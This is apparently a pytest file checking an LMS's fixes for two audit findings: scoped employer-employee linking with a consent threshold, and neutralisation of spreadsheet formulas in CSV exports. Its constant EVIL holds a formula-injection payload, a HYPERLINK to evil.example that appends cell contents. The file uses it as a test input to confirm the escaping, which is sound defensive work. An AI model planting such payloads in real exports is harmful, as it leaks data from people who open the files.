"""Security audit findings (OWASP ASVS L2) on the employer report and the CSV exports.

Finding 2: a coordinator links to a partner employer only the students of the cohorts they
may see (admins any student), and every refusal looks the same; consent is recorded only for
an employee of that employer in the user's scope; the employer report (page and CSV) shows
figures only from three consenting employees in scope.

Finding 7: every CSV export goes through one writer (:mod:`lms.csv_export`) that neutralises
text cells that a spreadsheet would read as a formula, and keeps numbers as numbers.
"""

from __future__ import annotations

import csv
import html
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest
from sqlalchemy import func, select

from lms import clock
from lms.attendance.models import AttendanceRecord
from lms.audit.models import AuditLog
from lms.audit.services import record
from lms.auth.models import Role
from lms.catalog.models import Site
from lms.employers.models import Employer, EmployerEmployee
from lms.extensions import db
from lms.followup.models import LevelAssessment
from tests.conftest import csrf_token

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
PREFIXES = ("=", "+", "-", "@", "\t", "\r")
START = date(2026, 9, 14)  # a Monday
TODAY = date(2026, 9, 30)
NO_STUDENT = "Aucun compte élève de vos groupes ne correspond à ce courriel."
NOT_ENOUGH = "Pas assez d'employé·es consentant·es pour afficher des résultats"


def _text(response) -> str:
    return html.unescape(response.get_data(as_text=True))


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode()), "UTF-8 with a BOM, for Excel"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def _post(client, path: str, **data):
    return client.post(path, data={"csrf_token": csrf_token(client, "/auth/password"), **data})


def _count(model, *where) -> int:
    db.session.rollback()
    return db.session.scalar(select(func.count()).select_from(model).where(*where)) or 0


# --- the writer ----------------------------------------------------------------------------------


def test_the_csv_writer_neutralises_every_formula_prefix_and_keeps_numbers():
    from lms.csv_export import csv_response

    dangerous = [f"{p}1+1" for p in PREFIXES]
    safe = ["a=b", "", "2026-09-14", "Zoé Tremblay", '{"a": 1}']
    numbers = [-3, -1.5, Decimal("-2.50"), 0, None]
    response = csv_response(
        ["colonne"] * 3, [dangerous, safe, numbers, [EVIL, "-1.50"]], "rapport.csv"
    )
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode())
    assert raw.decode("utf-8-sig").startswith("colonne,colonne,colonne\r\n")
    rows = _rows(response)
    assert rows[1] == [f"'{p}1+1" for p in PREFIXES]
    assert rows[2] == safe
    # Numbers are not text: a negative number stays a number the spreadsheet can add up.
    assert rows[3] == ["-3", "-1.5", "-2.50", "0", ""]
    # A number written as text is text: the exports pass numbers, never formatted strings.
    assert rows[4] == ["'" + EVIL, "'-1.50"]
    assert response.headers["Content-Disposition"] == 'attachment; filename="rapport.csv"'


def test_the_csv_writer_keeps_the_filename_in_a_safe_header():
    from lms.csv_export import csv_response

    response = csv_response(["a"], [], 'allocation-É"1\r\n.csv')
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="allocation-E_1__.csv"')
    assert "filename*=UTF-8''allocation-%C3%89%221%0D%0A.csv" in disposition
    assert "\r" not in disposition and "\n" not in disposition


# --- finding 2: linking employees, consent, the report ---------------------------------------------


@pytest.fixture
def firm(make_user, make_region, make_cohort, enrol, monkeypatch):
    """Region A (the coordinator's): a cohort of four students and an employer; region B: a
    cohort with ``eleve02@demo.lms``; a student enrolled nowhere; a teacher."""
    monkeypatch.setattr(clock, "today", lambda: TODAY)
    coordinator = make_user(Role.COORDINATOR.value)
    other_coordinator = make_user(Role.COORDINATOR.value)
    admin = make_user(Role.ADMIN.value)
    teacher = make_user(Role.TEACHER.value)
    region_a = make_region("Montréal", coordinators=(coordinator,))
    region_b = make_region("Capitale-Nationale", coordinators=(other_coordinator,))
    cohort_a = make_cohort(region=region_a, start_on=START)
    cohort_b = make_cohort(region=region_b, start_on=START)
    mine = [make_user(name=f"Employée Nº{n}") for n in range(1, 5)]
    for student in mine:
        enrol(student, cohort_a)
    theirs = make_user(email="eleve02@demo.lms", name="Élève Deux")
    enrol(theirs, cohort_b)
    nowhere = make_user(name="Sans Groupe")
    employer = Employer(name=EVIL, neq="1164567890", sector="sante", region_id=region_a.id)
    second = Employer(name="Usine Laval", neq="2264567890", sector="autre", region_id=region_a.id)
    db.session.add_all([employer, second])
    db.session.commit()
    return {
        "coordinator": coordinator,
        "admin": admin,
        "teacher": teacher,
        "cohort_a": cohort_a,
        "cohort_b": cohort_b,
        "mine": mine,
        "theirs": theirs,
        "nowhere": nowhere,
        "employer": employer,
        "second": second,
    }


def test_a_coordinator_links_only_students_in_scope_and_every_refusal_is_the_same(
    client, login_as, firm
):
    login_as(firm["coordinator"])
    path = f"/employers/{firm['employer'].id}/employees"
    refused = {
        "unknown": "personne@example.org",
        "not a student": firm["teacher"].email,
        "another region": firm["theirs"].email,
        "enrolled nowhere": firm["nowhere"].email,
    }
    answers = set()
    for case, email in refused.items():
        response = _post(client, path, email=email, consent="y", consent_on="2026-09-15")
        page = _text(response)
        assert response.status_code == 422, case
        assert NO_STUDENT in page, case
        assert "Élève Deux" not in page and "Sans Groupe" not in page, case
        answers.add((response.status_code, page.count(NO_STUDENT), page.count("is-invalid")))
    assert len(answers) == 1, answers
    assert _count(EmployerEmployee) == 0
    assert _count(AuditLog, AuditLog.action.like("employer.%")) == 0

    ok = _post(client, path, email=firm["mine"][0].email, consent="y", consent_on="2026-09-15")
    assert ok.status_code == 302
    assert _count(EmployerEmployee) == 1


def test_an_admin_may_link_any_student(client, login_as, firm):
    login_as(firm["admin"])
    path = f"/employers/{firm['employer'].id}/employees"
    for student in (firm["theirs"], firm["nowhere"]):
        assert _post(client, path, email=student.email).status_code == 302
    assert _post(client, path, email=firm["teacher"].email).status_code == 422
    assert _count(EmployerEmployee) == 2


def test_consent_is_recorded_only_for_an_employee_of_that_employer_in_scope(client, login_as, firm):
    # A link made before the fix, to a student of another region.
    employer, second = firm["employer"], firm["second"]
    stray = EmployerEmployee(employer_id=employer.id, student_id=firm["theirs"].id)
    own = EmployerEmployee(employer_id=employer.id, student_id=firm["mine"][0].id)
    elsewhere = EmployerEmployee(employer_id=second.id, student_id=firm["mine"][1].id)
    db.session.add_all([stray, own, elsewhere])
    db.session.commit()
    login_as(firm["coordinator"])

    def give(employer_id: int, link_id: int):
        return _post(
            client,
            f"/employers/{employer_id}/employees/{link_id}/consent",
            **{f"consent-{link_id}-consent": "yes", f"consent-{link_id}-consent_on": "2026-09-20"},
        )

    assert give(employer.id, stray.id).status_code == 404
    assert give(employer.id, elsewhere.id).status_code == 404  # another employer's link
    assert _count(EmployerEmployee, EmployerEmployee.consent.is_(True)) == 0
    assert _count(AuditLog, AuditLog.action.like("employer.%")) == 0
    assert give(employer.id, own.id).status_code == 302
    assert _count(EmployerEmployee, EmployerEmployee.consent.is_(True)) == 1


def _present(student, cohort, days: int = 2) -> None:
    for n in range(1, days + 1):
        db.session.add(
            AttendanceRecord(
                cohort_id=cohort.id,
                student_id=student.id,
                day=START + timedelta(days=n),
                status="present",
                minutes=0,
                scheduled_minutes=360,
                attended_minutes=360,
            )
        )


def _consenting(employer: Employer, student, cohort, *, level_from=6, level_to=8, days=2) -> None:
    """A consenting employee with ``days`` full days of class and a CO placement and
    mid-course assessment."""
    db.session.add(
        EmployerEmployee(
            employer_id=employer.id, student_id=student.id, consent=True, consent_on=START
        )
    )
    _present(student, cohort, days)
    for level, kind, day in ((level_from, "placement", START), (level_to, "mid", TODAY)):
        db.session.add(
            LevelAssessment(
                student_id=student.id, skill="CO", level=level, kind=kind, assessed_on=day
            )
        )


def test_the_employer_report_shows_figures_only_from_three_consenting_employees(
    client, login_as, firm
):
    employer, mine, cohort = firm["employer"], firm["mine"], firm["cohort_a"]
    for student in mine[:2]:
        _consenting(employer, student, cohort)
    _consenting(employer, firm["theirs"], firm["cohort_b"])  # a stray link, out of scope
    db.session.add(EmployerEmployee(employer_id=employer.id, student_id=mine[3].id))
    db.session.commit()
    login_as(firm["coordinator"])

    page = client.get(f"/employers/{employer.id}/report")
    assert page.status_code == 200
    body = _text(page)
    assert NOT_ENOUGH in body
    assert "data-figure" not in body and "100,0 %" not in body and "+2" not in body
    rows = _rows(client.get(f"/employers/{employer.id}/report.csv"))
    assert rows[0] == ["indicateur", "valeur"]
    assert [r[0] for r in rows[1:]] == ["entreprise", "NEQ", "date du rapport", "note"]
    assert rows[1][1] == "'" + EVIL
    assert rows[4][1].startswith(NOT_ENOUGH) and not any(c.isdigit() for c in rows[4][1])

    # A third consenting employee in scope, without attendance yet: the counts and the levels;
    # the attendance of two people is not shown (nor is a skill assessed for one person).
    db.session.rollback()  # a fresh snapshot: the requests wrote since (the login, ...)
    _consenting(employer, mine[2], cohort, level_from=7, level_to=7, days=0)
    db.session.add(
        LevelAssessment(
            student_id=mine[0].id, skill="PE", level=5, kind="placement", assessed_on=START
        )
    )
    db.session.commit()
    body = _text(client.get(f"/employers/{employer.id}/report"))
    assert NOT_ENOUGH not in body
    assert 'data-figure="included">3<' in body
    assert 'data-figure="not-included">1<' in body
    assert "L'assiduité n'est affichée qu'à partir de 3 personnes" in body
    assert 'data-figure="rate"' not in body and "100,0 %" not in body
    assert 'data-figure="gain-CO">+1,33<' in body and 'data-figure="gain-PE">—<' in body
    values = {r[0]: r[1] for r in _rows(client.get(f"/employers/{employer.id}/report.csv"))}
    assert values["personnes incluses (consentement enregistré)"] == "3"
    assert values["heures prévues"] == values["taux de présence (pourcentage)"] == ""
    assert values["compréhension orale : gain moyen (niveaux)"] == "1.33"  # (2 + 2 + 0) / 3
    assert values["production écrite : personnes évaluées au classement"] == "1"
    assert values["production écrite : niveau moyen au classement"] == ""

    # Once three of them have attendance: the aggregated attendance, and still no one's name.
    db.session.rollback()
    _present(mine[2], cohort)
    db.session.commit()
    body = _text(client.get(f"/employers/{employer.id}/report"))
    assert "100,0 %" in body
    csv_rows = _rows(client.get(f"/employers/{employer.id}/report.csv"))
    values = {r[0]: r[1] for r in csv_rows}
    assert (
        values["heures prévues"] == "36.00" and values["taux de présence (pourcentage)"] == "100.0"
    )
    text = body + repr(csv_rows)
    for student in (*mine, firm["theirs"]):
        assert student.name not in text and student.email not in text


# --- finding 7: every export neutralises formulas ------------------------------------------------


@pytest.mark.parametrize("scope", ["cohort", "site"])
def test_the_allowance_csvs_neutralise_a_formula_in_a_student_name(
    client, login_as, make_user, make_region, make_cohort, enrol, monkeypatch, scope
):
    monkeypatch.setattr(clock, "today", lambda: TODAY)
    coordinator = make_user(Role.COORDINATOR.value)
    cohort = make_cohort(region=make_region(coordinators=(coordinator,)), start_on=START)
    enrol(make_user(name=EVIL, email="evil@example.org"), cohort)
    login_as(coordinator)
    path = (
        f"/cohorts/{cohort.id}/allowance.csv"
        if scope == "cohort"
        else f"/sites/{cohort.site_id}/allowance.csv"
    )
    rows = _rows(client.get(f"{path}?week={START.isoformat()}"))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["student_name"] == "'" + EVIL
    assert (row["hours_scheduled"], row["hours_attended"]) == ("30.00", "0.00")


def test_the_employer_report_csv_neutralises_the_employer_name(client, login_as, firm):
    login_as(firm["admin"])
    rows = _rows(client.get(f"/employers/{firm['employer'].id}/report.csv"))
    assert rows[1] == ["entreprise", "'" + EVIL]


def test_the_dashboard_csv_neutralises_names_and_keeps_negative_gains_as_numbers(
    client, login_as, make_user, make_region, make_cohort, enrol, monkeypatch
):
    monkeypatch.setattr(clock, "today", lambda: date(2026, 11, 2))
    coordinator = make_user(Role.COORDINATOR.value)
    region = make_region("@SOMME(A1:A9)", coordinators=(coordinator,))
    site = Site(code="S-EVIL", name="+1 514 555-0100", region_id=region.id)
    db.session.add(site)
    db.session.commit()
    cohort = make_cohort(site=site, start_on=START, code="DASH-EVIL")
    student = make_user(name="Ana Lima")
    enrol(student, cohort)
    for level, kind, day in ((5, "placement", START + timedelta(days=1)), (4, "mid", TODAY)):
        db.session.add(
            LevelAssessment(
                student_id=student.id,
                cohort_id=cohort.id,
                skill="CO",
                level=level,
                kind=kind,
                assessed_on=day,
            )
        )
    db.session.commit()
    login_as(coordinator)
    rows = _rows(client.get("/quality/dashboard.csv?table=cohorts&from=2026-09-01&to=2026-10-31"))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Groupe"] == "DASH-EVIL"
    assert row["Site"] == "'+1 514 555-0100"
    assert row["Région"] == "'@SOMME(A1:A9)"
    assert row["Gain de niveau CO"] == "-1.00"


def test_the_audit_csv_neutralises_the_author_name(client, login_as, make_user):
    admin = make_user(Role.ADMIN.value, name=EVIL)
    student = make_user(name="Ana Lima")
    record("user.update", student, actor=admin, after={"name": "-2+3"})
    db.session.commit()
    login_as(admin)
    rows = _rows(client.get("/audit/export.csv?action=user.update"))
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Auteur"] == "'" + EVIL
    assert row["Action"] == "user.update"
    assert row["Après"] == '{"name": "-2+3"}'
